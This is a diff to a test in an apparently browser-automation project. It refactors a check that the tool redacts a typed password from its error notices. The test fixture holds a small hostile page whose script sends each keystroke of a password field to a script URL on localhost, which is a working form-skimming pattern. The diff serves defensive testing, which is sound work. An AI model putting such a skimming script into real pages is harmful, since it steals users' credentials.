@@ -353,11 +353,13 @@ test('chromium: a page that puts a typed password into the address of a script t
   const port = await closedPort();
   const pw = 'Tr4ck-pw-Qm82xZ';
   const page = `<input type="password" id="p"><script>document.getElementById("p").addEventListener("input", (e) => { const s = document.createElement("script"); s.src = "http://127.0.0.1:${port}/track.js?k=" + e.target.value; document.head.append(s); });</script>`;
-  const r = await gstack(['run', `const pg = await openTab();
+  // The script types the test password from its params, as an agent's sign-in does.
+  const typeIn = (password: string) => gstack(['run', `const pg = await openTab();
 await pg.setContent(${JSON.stringify(page)});
 await pg.locator("#p").fill(params.password);
 await sleep(500);
-console.log("GSTACK_STEP_OK");`, '--params', JSON.stringify({ password: pw })]);
+console.log("GSTACK_STEP_OK");`, '--params', JSON.stringify({ password })]);
+  const r = await typeIn(pw);
   assert.equal(r.code, 0, r.stdout + r.stderr);
   const notes = r.stderr.split('\n').filter((l) => l.includes('got no answer'));
   assert.equal(notes.length, 1, r.stderr);
@@ -365,11 +367,7 @@ console.log("GSTACK_STEP_OK");`, '--params', JSON.stringify({ password: pw })]);
   assert.ok(!(r.stdout + r.stderr).includes(pw), `the password reached output\n${r.stdout}${r.stderr}`);
   // A password the address spells %-encoded (a space, an é): the notice quotes it encoded, still cut.
   const spaced = 'Tr4ck pw é-Qm82';
-  const encoded = await gstack(['run', `const pg = await openTab();
-await pg.setContent(${JSON.stringify(page)});
-await pg.locator("#p").fill(params.password);
-await sleep(500);
-console.log("GSTACK_STEP_OK");`, '--params', JSON.stringify({ password: spaced })]);
+  const encoded = await typeIn(spaced);
   assert.equal(encoded.code, 0, encoded.stdout + encoded.stderr);
   const out = encoded.stdout + encoded.stderr;
   assert.match(out, /got no answer \(http:\/\/127\.0\.0\.1:\d+\/track\.js\?k=\[redacted\]/, out);
